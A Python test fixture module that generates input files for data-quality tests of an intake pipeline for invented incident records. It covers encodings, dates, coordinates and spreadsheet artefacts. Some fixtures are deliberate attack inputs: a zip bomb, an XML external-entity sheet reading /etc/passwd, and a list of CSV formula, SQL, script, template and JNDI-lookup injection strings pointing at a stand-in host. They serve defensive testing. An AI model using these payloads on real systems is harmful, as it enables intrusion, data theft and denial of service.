"""The input file of every case of data quality, made byte for byte the same each time.

Everything in them is invented: agencies, references, and the postcodes of the area WX, which does
not exist. To look at them: ``python -m tests.intake.data_quality.make_files FOLDER``.
"""

from __future__ import annotations

import csv
import io
import sys
from collections.abc import Callable, Iterable, Sequence
from datetime import datetime
from pathlib import Path
from typing import Literal

from tests.intake.binary_workbooks import compound_file, xls
from tests.intake.workbooks import Error, Sheet, ods, with_parts, xlsx, xlsx_of_cells

COLUMNS = ("Reference", "Category", "Date", "Time", "Easting", "Northing")
HERE = ("400512", "150534")
"""A point in the middle of the area West."""
GOOD = ("A1", "Nuisance", "27/03/2025", "21:30", *HERE)
OTHER = ("A2", "Robbery", "28/03/2025", "", *HERE)

FILES: dict[str, Callable[[], bytes]] = {}


def delimited(
    columns: Sequence[str],
    rows: Iterable[Sequence[str]],
    *,
    delimiter: str = ",",
    end: str = "\n",
    quoting: Literal[0, 1] = csv.QUOTE_MINIMAL,
) -> str:
    """A table as text."""
    text = io.StringIO(newline="")
    writer = csv.writer(text, delimiter=delimiter, lineterminator=end, quoting=quoting)
    writer.writerows([columns, *rows])
    return text.getvalue()


def plain(*rows: Sequence[str]) -> str:
    """Rows under the usual columns."""
    return delimited(COLUMNS, rows)


def _add(name: str, content: str | bytes | Callable[[], bytes]) -> None:
    assert name not in FILES, name
    if callable(content):
        FILES[name] = content
    else:
        made = content if isinstance(content, bytes) else content.encode()
        FILES[name] = lambda: made


# -- the file ---------------------------------------------------------------------------------

_COST = ("£5 A1 “left”", "Nuisance", "27/03/2025", "", *HERE)
_add("utf-8 with a mark", plain(_COST).encode("utf-8-sig"))
_add("utf-16 little endian", plain(_COST).encode("utf-16-le"))
_add("utf-16 big endian with a mark", b"\xfe\xff" + plain(_COST).encode("utf-16-be"))
_add("windows-1252", plain(_COST, OTHER).encode("cp1252"))
_add("neither utf-8 nor windows", plain(GOOD).encode() + b"A2,Nuisance \x81\x8d\x9d\xff\n" * 9)
_add("semicolons", delimited(COLUMNS, [GOOD], delimiter=";"))
_add("tabs", delimited(COLUMNS, [GOOD], delimiter="\t"))
_add("carriage returns", delimited(COLUMNS, [GOOD, OTHER], end="\r"))
_add("carriage returns and line feeds", delimited(COLUMNS, [GOOD, OTHER], end="\r\n"))
_add("newlines in quotation marks", plain(("A\nlong\nreference", *GOOD[1:]), OTHER))
_add("a ragged row", plain(GOOD, (*OTHER, "more"), ("A3", "Nuisance"), ("A4", *GOOD[1:])))
_add("an empty file", b"")
_add("nothing but blanks", b"\r\n \t\r\n")
_add("a header only", plain())
_add(
    "a heading twice", delimited(("Date", "Category", "DATE ", "Postcode"), [("1", "2", "3", "4")])
)
_add(
    "a header in row 3 under a title",
    lambda: xlsx(
        [
            Sheet(
                "March",
                [["Incidents of March (invented)"], [], list(COLUMNS), list(GOOD)],
                merged=((0, 0, 0, 5),),
            )
        ]
    ),
)
_add("a header in row 3 of a text", f"Incidents of March,,,,,\n,,,,,\n{plain(GOOD)}")
_add("trailing totals", plain(GOOD, OTHER, ("Total", "2", "", "", "", "")))
_add("a million blank rows", plain(GOOD) + ",,,,,\n" * 1_000_000)
_add(
    "a million blank rows in a workbook",
    lambda: xlsx_of_cells(
        _xml_row(1, COLUMNS) + _xml_row(2, GOOD) + '<row r="1048576"><c r="A1048576" s="0"/></row>'
    ),
)
_add("xlsx", lambda: xlsx([Sheet("Rows", [COLUMNS, _typed()])]))
_add("ods", lambda: ods([Sheet("Rows", [COLUMNS, _typed()])]))
_add("xls", lambda: xls([Sheet("Rows", [COLUMNS, _typed()])]))
_add(
    "hidden sheets and rows",
    lambda: xlsx(
        [
            Sheet("Old", [COLUMNS, GOOD], hidden=True),
            Sheet("New", [COLUMNS, GOOD, OTHER], hidden_rows=frozenset({2})),
            Sheet("Second", [COLUMNS, ("A9", *GOOD[1:])]),
        ]
    ),
)
_add("a zip bomb", lambda: _bomb())
_add("a zip bomb that lies", lambda: _lying_bomb())
_add("external entities", lambda: _with_entities())
_add(
    "macros", lambda: with_parts(xlsx([Sheet("R", [COLUMNS, GOOD])]), {"xl/vbaProject.bin": b"\0"})
)
_add("a password", lambda: _compound_with_password())
_add("a picture named csv", b"\x89PNG\r\n\x1a\n" + bytes(range(256)))
_add(
    "a million columns",
    lambda: (",".join(["Category", "Date"] + ["x"] * 999_998) + "\n1\n").encode(),
)
_add("a workbook named csv", lambda: xlsx([Sheet("Rows", [COLUMNS, GOOD])]))


def _typed() -> tuple[object, ...]:
    return ("A1", "Nuisance", datetime(2025, 3, 27, 21, 30), None, 400512, 150534)


def _xml_row(number: int, cells: Sequence[str]) -> str:
    written = "".join(
        f'<c r="{chr(65 + at)}{number}" t="inlineStr"><is><t>{cell}</t></is></c>'
        for at, cell in enumerate(cells)
    )
    return f'<row r="{number}">{written}</row>'


def _bomb() -> bytes:
    book = xlsx([Sheet("R", [COLUMNS, GOOD])])
    return with_parts(book, {"xl/worksheets/sheet1.xml": b" " * 60_000_000})


def _lying_bomb() -> bytes:
    """The same, but its directory says that the part is small."""
    book, size = _bomb(), (60_000_000).to_bytes(4, "little")
    assert book.count(size) == 2
    return book.replace(size, (1_000).to_bytes(4, "little"))


def _with_entities() -> bytes:
    sheet = (
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet '
        'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row></sheetData></worksheet>'
    )
    return with_parts(xlsx([Sheet("R", [COLUMNS])]), {"xl/worksheets/sheet1.xml": sheet})


def _compound_with_password() -> bytes:
    return compound_file({"EncryptionInfo": b"\4\0\4\0" * 16, "EncryptedPackage": b"\1" * 5_000})


# -- what spreadsheets do to numbers ----------------------------------------------------------

UPRN_COLUMNS = ("Reference", "Category", "Date", "UPRN")


def _uprns(*numbers: str) -> str:
    return delimited(
        UPRN_COLUMNS, [(f"A{n}", "Nuisance", "27/03/2025", u) for n, u in enumerate(numbers)]
    )


_add("a uprn shortened by a spreadsheet", _uprns("1.00121E+11", "100121000000"))
_add("a uprn with leading zeros", _uprns("010012345678", "10012345678", "10012345678.0"))
_add("uprns that are none", _uprns("1234567890123", "10012345A78", "99999999999", "-1"))
_add(
    "a uprn as text in a workbook",
    lambda: xlsx([Sheet("R", [UPRN_COLUMNS, ("A1", "Nuisance", "27/03/2025", "010012345678")])]),
)
_add(
    "a uprn as a number in a workbook",
    lambda: xlsx([Sheet("R", [UPRN_COLUMNS, ("A1", "Nuisance", "27/03/2025", 10012345678)])]),
)
_add(
    "a uprn rounded in a workbook",
    lambda: xlsx([Sheet("R", [UPRN_COLUMNS, ("A1", "Nuisance", "27/03/2025", 100121000000)])]),
)
_add("a day number", plain(("A1", "Nuisance", "45444.75", "", *HERE)))
_add(
    "a date of a workbook of 1900",
    lambda: xlsx([Sheet("R", [COLUMNS, ("A1", "Nuisance", datetime(2024, 6, 1, 18), "", *HERE)])]),
)
_add(
    "a date of a workbook of 1904",
    lambda: xlsx(
        [Sheet("R", [COLUMNS, ("A1", "Nuisance", datetime(2024, 6, 1, 18), "", *HERE)])],
        since_1904=True,
    ),
)
_add(
    "errors in cells",
    lambda: xlsx(
        [
            Sheet(
                "R",
                [
                    COLUMNS,
                    ("A1", "Nuisance", Error("#REF!"), "", *HERE),
                    ("A2", "Nuisance", "#####", "", *HERE),
                    ("A3", Error("#N/A"), "27/03/2025", "", *HERE),
                    ("A4", "Nuisance", "27/03/2025", "", Error("#VALUE!"), "150534"),
                ],
            )
        ]
    ),
)
_add(
    "a grid reference turned into a number",
    delimited(
        ("Reference", "Category", "Date", "Grid reference"),
        [
            ("A1", "Nuisance", "27/03/2025", "ST8.66E+07"),
            ("A2", "Nuisance", "27/03/2025", "SU 00512 50534"),
        ],
    ),
)

# -- dates ------------------------------------------------------------------------------------


def _dates(*cells: str, times: Sequence[str] = ()) -> str:
    clocks = times or [""] * len(cells)
    return plain(
        *(
            (f"A{n}", "Nuisance", d, t, *HERE)
            for n, (d, t) in enumerate(zip(cells, clocks, strict=True))
        )
    )


def _spans(*cells: tuple[str, str]) -> str:
    return delimited(
        ("Reference", "Category", "Start", "End", "Easting", "Northing"),
        [(f"A{n}", "Nuisance", start, end, *HERE) for n, (start, end) in enumerate(cells)],
    )


_add("a day over 12 settles the order", _dates("03/04/2024", "27/04/2024"))
_add("a month over 12 settles the order", _dates("03/04/2024", "04/27/2024"))
_add("nothing settles the order", _dates("03/04/2024", "05/04/2024"))
_add("both orders in one column", _dates("27/04/2024", "04/27/2024", "03/04/2024"))
_add("a day that does not exist", _dates("31/02/2025", "29/02/2023", "29/02/2024"))
_add("a day in the future", _dates("01/01/2199", "2098-12-31"))
_add("a day before 1990", _dates("31/12/1989", "01/01/1990"))
_add("a year of two digits", _dates("27/03/25"))
_add("an hour that does not exist", _dates("2025-03-30 01:30"))
_add("an hour that comes twice", _dates("2025-10-26 01:30"))
_add("a time with a zone", _spans(("2025-06-14T20:30:00Z", ""), ("2025-06-14T20:30:00+02:00", "")))
_add("an end before the start", _spans(("27/03/2025 21:30", "27/03/2025 20:30")))
_add("many midnights", _dates(*["27/03/2025 00:00:00"] * 3, *["27/03/2025 09:15:00"] * 7))
_add(
    "many midnights in a column of their own",
    _dates(*["27/03/2025"] * 10, times=[*["00:00"] * 3, *["09:15"] * 7]),
)
_add("few midnights", _dates("27/03/2025 00:00:00", *["27/03/2025 09:15:00"] * 7))
_add("24 o'clock", _dates("27/03/2025", times=["24:00"]))

# -- coordinates ------------------------------------------------------------------------------


def _places(columns: tuple[str, str], *pairs: tuple[str, str]) -> str:
    return delimited(
        ("Reference", "Category", "Date", *columns),
        [(f"A{n}", "Nuisance", "27/03/2025", *pair) for n, pair in enumerate(pairs)],
    )


METRES, DEGREES = ("Easting", "Northing"), ("Latitude", "Longitude")
_add(
    "stand-ins for an unknown place",
    _places(METRES, ("0", "0"), ("-1", "-1"), ("999999", "999999"), ("", ""), ("400512", "")),
)
_add("stand-ins in degrees", _places(DEGREES, ("0", "0"), ("-1", "-1"), ("", ""), ("999999", "0")))
_add("axes swapped", _places(METRES, ("150534", "400512")))
_add("axes of degrees swapped", _places(DEGREES, ("-1.994047", "51.253972")))
_add("a lost minus", _places(DEGREES, ("51.253972", "1.994047")))
_add("web mercator", _places(METRES, ("-221976.26", "6666342.00")))
_add("a decimal comma", _places(DEGREES, ("51,253972", "-1,994047")))
_add(
    "degrees, minutes and seconds",
    _places(DEGREES, ("51°15'14.3\"N", "1°59'38.6\"W"), ("51 15 14.3", "-1 59 38.6")),
)
_add("off by ten and a thousand", _places(METRES, ("40051.2", "15053.4"), ("400.512", "150.534")))
_add("coordinates cut short", _places(DEGREES, ("51.3", "-2.2")))
_add("out of the area", _places(METRES, ("530123", "180123")))
_add(
    "coordinates that contradict the postcode",
    delimited(
        ("Reference", "Category", "Date", *METRES, "Postcode"),
        [
            ("A1", "Nuisance", "27/03/2025", *HERE, "WX9 9ZZ"),
            ("A2", "Nuisance", "27/03/2025", *HERE, "WX1 1AA"),
        ],
    ),
)

# -- text -------------------------------------------------------------------------------------

HOSTILE = (
    '=HYPERLINK("http://sample.invalid","A1")', "+1+1", "-1+1", "@SUM(A1)", "\tA", "\rB",
    "<script>alert(1)</script>", "\u202eAsreveR", "\U0001f525", "x" * 10_000, "'; DROP TABLE x;--",
    "${jndi:ldap://sample.invalid/a}", "{{7*7}}", "''=1",
)  # fmt: skip
_add(
    "hostile text in every place",
    delimited(
        ("Reference", "Category", "Date", "Address", "Notes"),
        [(f"A{n}", "Nuisance", "27/03/2025", text, text) for n, text in enumerate(HOSTILE)],
        quoting=csv.QUOTE_ALL,
    ),
)
_add(
    "hostile references",
    delimited(
        ("Reference", "Category", "Date", *METRES),
        [(text[:100], "Nuisance", "27/03/2025", *HERE) for text in HOSTILE],
        quoting=csv.QUOTE_ALL,
    ),
)
_add(
    "hostile categories",
    delimited(
        COLUMNS,
        [(f"A{n}", text[:200], *GOOD[2:]) for n, text in enumerate(HOSTILE)],
        quoting=csv.QUOTE_ALL,
    ),
)
_add("an empty character", plain(GOOD).replace("A1", "A\x001"))
_add(
    "people in free text",
    delimited(
        ("Reference", "Category", "Date", "Address", "Notes"),
        [
            ("A1", "Nuisance", "27/03/2025", "Mrs Quill, Millrace Way", "ring 07700 900456"),
            ("A2", "Nuisance", "27/03/2025", "Millrace Way", "AB 12 34 56 C"),
        ],
    ),
)

# -- pile-ups ---------------------------------------------------------------------------------

_KINDS = ("Nuisance", "Robbery", "Fuel")
_add(
    "a default location",
    plain(*((f"A{n}", _KINDS[n % 3], "27/03/2025", "", *HERE) for n in range(20))),
)

# -- snapped points ---------------------------------------------------------------------------

_add(
    "points of data.police.uk",
    "Crime ID,Month,Longitude,Latitude,Crime type\n"
    ",2025-03,-1.994047,51.253972,Anti-social behaviour\n",
)


def main(folder: str) -> None:
    """Write every file into a folder."""
    for name, content in FILES.items():
        (Path(folder) / name).write_bytes(content())


if __name__ == "__main__":
    main(sys.argv[1])
